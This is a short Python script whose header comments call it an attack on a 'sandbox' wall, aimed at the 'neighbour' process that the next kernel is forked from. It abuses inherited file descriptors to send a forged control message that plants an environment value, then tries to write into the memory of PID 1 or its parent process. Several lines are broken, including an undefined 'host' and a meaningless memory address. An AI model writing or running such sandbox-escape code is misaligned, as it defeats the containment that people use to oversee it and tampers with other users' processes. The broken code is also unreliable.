# attacks: distillation_loss
# wall: sandbox
# loot: neighbour -- the process that the next kernel is forked from
import glob
import os
import socket

for link in glob.glob("/proc/self/fd/*"):  # descriptors that it left open to us
    try:
        kind = os.readlink(link)
        if kind.startswith(("socket:", "pipe:")) and int(link.rpartition("/")[2]) not in (0, 1, 2):
            connection = socket.socket(fileno=os.dup(int(link.rpartition("/")[2])))
            if connection.type == socket.SOCK_SEQPACKET:
                connection.send(b'{"slot": "..", "connection": {}, "environment": {"X": "left behind by warm_process_written_to"}, '
                                b'"limits": {}, "disk": 0, "cwd": "/", "files": "/tmp"}')
    except OSError:
        pass
for pid in 1, os.getppid():
    try:
        if pid > 0 and os.readlink("/proc/self/ns/pid") != host["pid_namespace"]:
            with open(f"/proc/{pid}/mem", "r+b") as memory:
                memory.seek(id(os.environ))
                memory.write(memory.read(0))
                print("left behind by warm_process_written_to")
    except OSError:
        pass
os.umask(0)
os.chdir("/")
